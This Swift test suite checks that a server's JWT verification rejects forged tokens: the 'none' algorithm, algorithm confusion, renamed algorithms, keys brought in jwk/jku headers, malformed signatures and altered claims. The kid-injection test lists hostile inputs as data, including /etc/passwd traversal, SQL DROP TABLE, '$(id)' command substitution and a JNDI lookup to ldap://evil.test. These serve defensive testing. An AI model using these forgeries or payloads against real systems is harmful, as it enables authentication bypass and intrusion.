import Crypto
import Encoding
import Foundation
import NIOHTTP1
import Server
import TestSupport
import Testing

/// Only our keys sign our tokens, and a token cannot choose its verification (RFC 8725, sections 2.1 and 3.1; ASVS 9.1.1 to 9.1.3).
@Suite("Attack: forged tokens")
struct TokenForgeryTests {
    /// A valid access token, and the published data of its key.
    private static func begin(_ platform: TestPlatform) async throws -> (TestBrowser, token: String, key: [String: String]) {
        let browser = TestBrowser(platform)
        let token = try await browser.signedIn(.init(platform.acme)).accessToken
        #expect(try await browser.isTaken(token, at: platform.acme))
        return (browser, token, try await browser.publishedKey(of: platform.acme))
    }

    @Test("RFC 8725, 2.1: `none`, in any spelling, with no signature, the old one or an empty one, is rejected")
    func none() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, _) = try await Self.begin(platform)
            for name in ["none", "None", "NONE", "nOnE", "", "null", "none\0"] {
                var forged = ForgedToken(token)
                forged.header["alg"] = name
                let input = try forged.input
                for attempt in ["\(input).", "\(input)", "\(input).\(forged.signature)", "\(input).AA", "\(input).."] {
                    #expect(try await !browser.isTaken(attempt, at: platform.acme), "\(name)")
                }
            }
        }
    }

    @Test("RFC 8725, 2.1: algorithm confusion: the published key is not accepted as an HMAC secret in any form")
    func publicKeyAsSecret() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, key) = try await Self.begin(platform)
            let point = ([UInt8](base64URL: key["x"] ?? "") ?? []) + ([UInt8](base64URL: key["y"] ?? "") ?? [])
            let published = try P256.Signing.PublicKey(rawRepresentation: point)
            let jwks = try await browser.get("\(platform.acme.issuer)/oauth2/jwks").body
            let secrets = [
                Data(published.pemRepresentation.utf8), Data("\(published.pemRepresentation)\n".utf8), published.derRepresentation,
                published.x963Representation, published.rawRepresentation, published.compressedRepresentation, Data(point.prefix(32)),
                Data((key["x"] ?? "").utf8), Data((key["kid"] ?? "").utf8), Data(jwks.utf8), Data(), Data(count: 32),
                try JSONSerialization.data(withJSONObject: key, options: .sortedKeys),
            ]
            for secret in secrets {
                var forged = ForgedToken(token)
                forged.header["alg"] = "HS256"
                #expect(try await !browser.isTaken(try forged.signed(bySecret: secret, SHA256.self), at: platform.acme))
                forged.header["alg"] = "HS384"
                #expect(try await !browser.isTaken(try forged.signed(bySecret: secret, SHA384.self), at: platform.acme))
                forged.header["alg"] = "HS512"
                #expect(try await !browser.isTaken(try forged.signed(bySecret: secret, SHA512.self), at: platform.acme))
                // Also with the right name, against a verifier that uses the key's own kind.
                forged.header["alg"] = "ES256"
                #expect(try await !browser.isTaken(try forged.signed(bySecret: secret, SHA256.self), at: platform.acme))
            }
        }
    }

    @Test("RFC 8725, 3.1: a right signature is rejected under the name of another algorithm")
    func renamed() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, _) = try await Self.begin(platform)
            for name in ["RS256", "ES384", "ES512", "PS256", "EdDSA", "HS256", "es256", "ES256K", "ES256 "] {
                var forged = ForgedToken(token)
                forged.header["alg"] = name
                #expect(try await !browser.isTaken("\(try forged.input).\(forged.signature)", at: platform.acme), "\(name)")
            }
        }
    }

    @Test("RFC 7515, 4.1.2 to 4.1.6; ASVS 9.1.3: a key in the token, or at a URL in the token, is not used")
    func keyBroughtAlong() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, key) = try await Self.begin(platform)
            let own = P256.Signing.PrivateKey()
            let point = Array(own.publicKey.rawRepresentation)
            let jwk = [
                "kty": "EC", "crv": "P-256", "alg": "ES256", "use": "sig", "kid": "evil", "x": Array(point[..<32]).base64URL,
                "y": Array(point[32...]).base64URL,
            ]
            let brought: [[String: any Sendable]] = [
                ["jwk": jwk], ["jwk": jwk, "kid": "evil"], ["jku": "https://evil.test/jwks"],
                ["jku": "https://evil.test/jwks", "kid": "evil"],
                ["x5u": "https://evil.test/certificate"], ["x5c": [own.publicKey.derRepresentation.base64EncodedString()]],
                ["x5t": "AA"], ["x5t#S256": "AA"], ["kid": "evil"], [:],
            ]
            for header in brought {
                var forged = ForgedToken(token)
                forged.header.merge(header) { $1 }
                #expect(try await !browser.isTaken(try forged.signed(by: own), at: platform.acme), "\(header.keys)")
                // With the thumbprint, which some verifiers use (RFC 7638).
                forged.header["kid"] = Array(SHA256.hash(data: Data(key.description.utf8))).base64URL
                #expect(try await !browser.isTaken(try forged.signed(by: own), at: platform.acme), "\(header.keys)")
            }
        }
    }

    @Test("ASVS 9.1.3, 1.2: `kid` injection: a kid that is a path, a query, a command or not a name finds no key")
    func keyID() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, key) = try await Self.begin(platform)
            let own = P256.Signing.PrivateKey()
            let kid = key["kid"] ?? ""
            let other = try await browser.publishedKey(of: platform.globex)["kid"] ?? ""
            for name in [
                "../../../../../dev/null", "/dev/null", "file:///etc/passwd", "..\\..\\nul", "' OR '1'='1", "x' UNION SELECT 'secret' --",
                "'; DROP TABLE signing_key; --", "$(id)", "|/bin/id", "${jndi:ldap://evil.test/x}", "", " ", "\0", kid + "\0", kid + " ",
                " \(kid)", kid.uppercased(), String(kid.dropLast()), "\(kid)\u{301}", "\u{FEFF}\(kid)", other, "https://evil.test/jwks",
                String(repeating: "k", count: 3000), "null", "0",
            ] as [String] {
                var forged = ForgedToken(token)
                forged.header["kid"] = name
                for attempt in [
                    try forged.signed(by: own), "\(try forged.input).\(forged.signature)",
                    // The content of /dev/null is an empty secret.
                    try forged.signed(bySecret: Data(), SHA256.self),
                ] {
                    let answer = try await browser.userInfo(authorization: "Bearer \(attempt)", at: platform.acme)
                    #expect(answer.status == 401, "\(name.debugDescription): \(answer.status) \(answer.body)")
                }
            }
            // It is not a text.
            for wrong in [7, true, ["a"], ["k": kid]] as [any Sendable] {
                var forged = ForgedToken(token)
                forged.header["kid"] = wrong
                #expect(try await !browser.isTaken(try forged.signed(by: own), at: platform.acme))
            }
            #expect(try await platform.count("signing_key") > 0)
            #expect(try await browser.isTaken(token, at: platform.acme))
        }
    }

    @Test("RFC 8725, 3.3; CVE-2022-21449: a signature of zeros, of the curve's order, in DER or of another token is invalid")
    func signatures() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, _) = try await Self.begin(platform)
            let input = String(token.prefix(upTo: token.lastIndex(of: ".") ?? token.endIndex))
            let signature = [UInt8](base64URL: ForgedToken(token).signature) ?? []
            let order: [UInt8] = [
                0xFF, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
                0xBC, 0xE6, 0xFA, 0xAD, 0xA7, 0x17, 0x9E, 0x84, 0xF3, 0xB9, 0xCA, 0xC2, 0xFC, 0x63, 0x25, 0x51,
            ]
            let ours = try P256.Signing.ECDSASignature(rawRepresentation: signature)
            let another = try await browser.signedIn(.init(platform.acme)).accessToken
            // Sums of literals take the compiler seconds.
            let (longer, one): ([UInt8], [UInt8]) = (signature + [0], [UInt8](repeating: 0, count: 63) + [1])
            let swapped: [UInt8] = Array(signature[32...] + signature[..<32])
            let wrongs: [[UInt8]] = [
                [UInt8](repeating: 0, count: 64), order + order, one, Array(ours.derRepresentation), longer, Array(signature.dropLast()),
                Array(signature.reversed()), swapped, [], [0], [UInt8](repeating: 0xFF, count: 64),
                [UInt8](base64URL: ForgedToken(another).signature) ?? [], [UInt8](repeating: 7, count: 2000),
            ]
            for wrong in wrongs { #expect(try await !browser.isTaken("\(input).\(wrong.base64URL)", at: platform.acme)) }
            // The same bytes have one spelling, so a revoked token cannot return in another spelling.
            for padded in [
                "\(token)=", "\(token)==", " \(token)", "\(token).", "\(token).AA", token.replacing("-", with: "+"), "\(token)%",
            ]
            where padded.trimmingCharacters(in: .whitespaces) != token {
                #expect(try await !browser.isTaken(padded, at: platform.acme), "\(padded.suffix(10))")
            }
        }
    }

    @Test("RFC 8725, 3.2: a token with any changed character is rejected, and none causes a server error")
    func mutated() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, _) = try await Self.begin(platform)
            var generator = SystemRandomNumberGenerator()
            for at in token.indices {
                let other = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.".filter { $0 != token[at] }
                var characters = token
                characters.replaceSubrange(at...at, with: [other.randomElement(using: &generator)!])
                let answer = try await browser.userInfo(authorization: "Bearer \(characters)", at: platform.acme)
                #expect(answer.status == 401 && answer.refuses("invalid_token"), "\(characters): \(answer.status)")
            }
        }
    }

    @Test("RFC 8725, 3.10; ASVS 9.2: an attacker's own claims are rejected, because they are not signed")
    func claims() async throws {
        try await TestPlatform.run { platform in
            let (browser, token, _) = try await Self.begin(platform)
            let changes: [[String: any Sendable]] = [
                ["exp": 99_999_999_999], ["scope": "openid profile email admin"], ["sub": "user_00000000000000000000000000"],
                ["exp": "never"],
                ["tid": platform.globex.id, "iss": platform.globex.issuer, "aud": platform.globex.issuer], ["exp": -1], ["exp": 1e300],
            ]
            for change in changes {
                var forged = ForgedToken(token)
                forged.claims.merge(change) { $1 }
                #expect(try await !browser.isTaken("\(try forged.input).\(forged.signature)", at: platform.acme), "\(change)")
                #expect(try await !browser.isTaken(try forged.signed(by: P256.Signing.PrivateKey()), at: platform.acme), "\(change)")
            }
        }
    }
}
